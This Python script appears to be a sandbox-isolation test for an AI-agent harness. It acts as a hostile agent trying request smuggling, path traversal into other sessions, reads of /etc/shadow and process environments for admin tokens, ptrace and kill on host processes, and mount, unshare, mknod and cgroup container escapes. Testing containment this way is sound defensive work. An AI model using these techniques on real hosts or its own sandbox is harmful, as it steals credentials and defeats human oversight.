"""A hostile agent: attempts to reach what is not its own. Runs in a box, on the standard library alone.

Each attempt returns what it got; a refusal is an exception, or a falsy value. The result is a JSON object by attempt:
`refused: WHY`, or `REACHED: WHAT`.
"""

import ctypes
import json
import os
import signal
import socket
import stat
import sys
import urllib.parse
import urllib.request
from pathlib import Path

TOLD = json.loads(os.environ["HARNESS_METADATA"])
BASE = os.environ["OPENAI_BASE_URL"].removesuffix("/v1")
PARTS = urllib.parse.urlsplit(BASE)
KEY = os.environ["OPENAI_API_KEY"]
ATTEMPTS = {}
LIBC = ctypes.CDLL(None, use_errno=True)


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def ask(method, path, key=KEY, body=None):
    request = urllib.request.Request(
        f"http://{PARTS.netloc}{path}", body, {"authorization": f"Bearer {key}"}, method=method
    )
    with urllib.request.urlopen(request, timeout=10) as answer:
        return answer.read()[:200] or b"an empty answer"


def speak(data):
    """Return the answer to raw bytes if it is a success."""
    with socket.create_connection((PARTS.hostname, PARTS.port), timeout=10) as connection:
        connection.sendall(data)
        answer = b""
        while more := connection.recv(65536):
            answer += more
    return answer


def check(result):
    if result:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "it did"


@attempt
def other_session_by_its_path():
    return ask("GET", f"/sessions/{TOLD['other_id']}/v1/models")


@attempt
def other_session_by_its_key():
    return ask("GET", f"/sessions/{TOLD['other_id']}/v1/models", TOLD["other_key"])


@attempt
def other_session_by_dots():
    return ask("GET", f"{PARTS.path}/../{TOLD['other_id']}/v1/models", TOLD["other_key"])


@attempt
def other_session_by_encoded_dots():
    return ask("GET", f"{PARTS.path}/%2e%2e/{TOLD['other_id']}/v1/models", TOLD["other_key"])


@attempt
def other_session_in_a_second_request():
    first = f"GET {PARTS.path}/v1/models HTTP/1.1\r\nHost: {PARTS.netloc}\r\nAuthorization: Bearer {KEY}\r\n\r\n"
    second = (
        f"GET /sessions/{TOLD['other_id']}/v1/models HTTP/1.1\r\nHost: {PARTS.netloc}\r\nConnection: close\r\n"
        f"Authorization: Bearer {TOLD['other_key']}\r\n\r\n"
    )
    return speak((first + second).encode()).count(b" 200 OK\r\n") > 1


@attempt
def other_session_in_a_body():
    inner = f"GET /sessions/{TOLD['other_id']}/v1/models HTTP/1.1\r\nHost: x\r\n\r\n"
    outer = (
        f"POST {PARTS.path}/v1/chat/completions HTTP/1.1\r\nHost: {PARTS.netloc}\r\nConnection: close\r\n"
        f"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    )
    return speak((outer + inner).encode()).count(b" 200 OK\r\n")


@attempt
def sessions_of_the_server():
    return ask("GET", "/sessions")


@attempt
def a_session_of_ones_own():
    return ask("POST", "/sessions", body=b"{}")


@attempt
def drain_of_the_server():
    return ask("POST", "/sessions/drain", body=b"{}")


@attempt
def pause_of_the_server():
    return ask("POST", "/sessions/pause", body=b"{}")


@attempt
def deletion_of_another_session():
    return ask("DELETE", f"/sessions/{TOLD['other_id']}", TOLD["other_key"])


@attempt
def metrics():
    return ask("GET", "/metrics")


@attempt
def an_absolute_target():
    target = f"http://127.0.0.1:{TOLD['server_port']}/sessions"
    head = f"GET {target} HTTP/1.1\r\nHost: {PARTS.netloc}\r\nConnection: close\r\n\r\n"
    return b" 200 OK\r\n" in speak(head.encode())


@attempt
def a_tunnel():
    head = f"CONNECT 127.0.0.1:{TOLD['server_port']} HTTP/1.1\r\nHost: {PARTS.netloc}\r\n\r\n"
    return b" 200 " in speak(head.encode())


@attempt
def the_server_without_the_relay():
    return socket.create_connection(("127.0.0.1", TOLD["server_port"]), timeout=5)


@attempt
def an_address_of_the_host():
    return [each for each in TOLD["host_addresses"] if _connects(each, TOLD["server_port"])]


def _connects(host, port):
    try:
        socket.create_connection((host, port), timeout=3).close()
    except OSError:
        return False
    return True


@attempt
def the_internet():
    return socket.create_connection(("192.0.2.1", 53), timeout=3)


@attempt
def a_datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        return sender.sendto(b"x", ("192.0.2.1", 53))


@attempt
def an_abstract_socket_of_the_host():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + TOLD["abstract_socket"])
        return "connected"


@attempt
def a_socket_of_the_host():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(TOLD["host_socket"])
        return "connected"


@attempt
def the_socket_of_a_container_engine():
    paths = ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock")
    return [path for path in paths if Path(path).exists()]


@attempt
def the_store_of_the_run():
    return Path(TOLD["store"]).read_text()


@attempt
def the_folder_of_another_agent():
    return Path(TOLD["other_file"]).read_text()


@attempt
def a_file_in_the_folder_of_another_agent():
    Path(TOLD["other_file"]).with_name("planted").write_text("x")
    return Path(TOLD["other_file"]).exists()


@attempt
def what_lies_beside_ones_own_folder():
    own = Path(os.environ["HARNESS_RESULT_FILE"]).parent
    return [each.name for each in own.parent.iterdir() if each.name != own.name]


@attempt
def a_link_to_the_store():
    link = Path(os.environ["HARNESS_RESULT_FILE"]).with_name("link")
    link.symlink_to(TOLD["store"])
    return link.read_text()


@attempt
def a_secret_of_the_user():
    return Path(TOLD["user_file"]).read_text()


@attempt
def passwords_of_the_host():
    return [line for line in Path("/etc/shadow").read_text().splitlines() if line.startswith("root:")]


@attempt
def variables_of_the_harness():
    return [name for name, value in os.environ.items() if TOLD["admin_token_backwards"][::-1] in value]


@attempt
def variables_of_other_processes():
    mine, found = {str(os.getpid())}, []
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit() and folder.name not in mine:
            try:
                content = (folder / "environ").read_bytes()
            except OSError:
                continue
            if b"HARNESS_ADMIN_TOKEN=" in content or b"VICTIM=" in content:
                found.append(folder.name)
    return found


@attempt
def processes_of_the_host():
    names = [each.name for each in Path("/proc").iterdir() if each.name.isdigit()]
    return [name for name in names if TOLD["victim_mark"].encode() in _command_of(name) and name != str(os.getpid())]


def _command_of(pid):
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


@attempt
def a_signal_to_a_process_of_the_host():
    os.kill(TOLD["victim_pid"], signal.SIGKILL)
    return "sent"


@attempt
def a_debugger_on_a_process_of_the_host():
    attach = 16
    return check(LIBC.ptrace(attach, TOLD["victim_pid"], 0, 0))


@attempt
def the_root_of_the_first_process():
    return Path(f"/proc/1/root{TOLD['store']}").read_text()


@attempt
def namespaces_of_the_host():
    own = {name: str(Path(f"/proc/self/ns/{name}").readlink()) for name in ("pid", "mnt", "net", "ipc", "uts")}
    return [name for name, link in own.items() if link == TOLD["namespaces"][name]]


@attempt
def a_mount():
    return check(LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None))


@attempt
def a_bind_over_the_system():
    bind = 4096
    return check(LIBC.mount(b"/tmp", b"/usr", None, bind, None))


@attempt
def the_host_as_root_of_a_new_user_namespace():
    new_user, new_mount = 0x10000000, 0x00020000
    child = os.fork()
    if child == 0:  # what it changes for itself alone is not what is asked here
        is_root = LIBC.unshare(new_user | new_mount) == 0
        os._exit(is_root and (_opens("/proc/sys/kernel/core_pattern") or _mounts_a_disk()))
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


def _mounts_a_disk():
    os.mknod("/tmp/nested", 0o600 | stat.S_IFBLK, os.makedev(*TOLD["disk"]))
    return LIBC.mount(b"/tmp/nested", b"/usr", b"ext4", 0, None) == 0


def _opens(path):
    """Return whether a file can be written, and write nothing."""
    try:
        os.close(os.open(path, os.O_WRONLY))
    except OSError:
        return False
    return True


@attempt
def another_root():
    os.chroot("/tmp")
    return "changed"


@attempt
def a_disk_of_the_host():
    path = Path("/tmp/disk")
    os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(*TOLD["disk"]))
    return path.open("rb").read(16)


@attempt
def settings_of_the_kernel():
    paths = ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/mtrr")
    return [path for path in paths if _opens(path)]


@attempt
def memory_of_the_kernel():
    found = []
    for path in ("/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/proc/keys"):
        try:
            handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        found += [path] * bool(os.read(handle, 16))
        os.close(handle)
    return found


@attempt
def a_cgroup():
    folders = (
        [each for each in Path("/sys/fs/cgroup").rglob("*") if each.is_dir()] if Path("/sys/fs/cgroup").exists() else []
    )
    made = []
    for folder in (Path("/sys/fs/cgroup"), *folders[:50]):
        try:
            (folder / "escape").mkdir()
        except OSError:
            continue
        made.append(str(folder))
    return made


@attempt
def shared_memory_of_the_host():
    return [each.name for each in Path("/dev/shm").iterdir() if each.name == TOLD["shared_memory"]]


@attempt
def capabilities():
    status = Path("/proc/self/status").read_text()
    return int(status.partition("CapEff:")[2].split()[0], 16)


@attempt
def new_privileges():
    return "No new privileges is off" if "NoNewPrivs:\t1" not in Path("/proc/self/status").read_text() else ""


@attempt
def the_key_in_a_command_line():
    names = [each.name for each in Path("/proc").iterdir() if each.name.isdigit()]
    return [name for name in names if KEY.encode() in _command_of(name)]


def main():
    results = {}
    for name, function in ATTEMPTS.items():
        try:
            got = function()
        except Exception as error:  # noqa: BLE001  # any refusal will do
            results[name] = f"refused: {type(error).__name__}: {error}"
        else:
            results[name] = f"REACHED: {got!r}" if got else "refused: nothing was found"
    with Path(os.environ["HARNESS_RESULT_FILE"]).open("w") as file:
        json.dump(results, file)
    return 0


sys.exit(main())
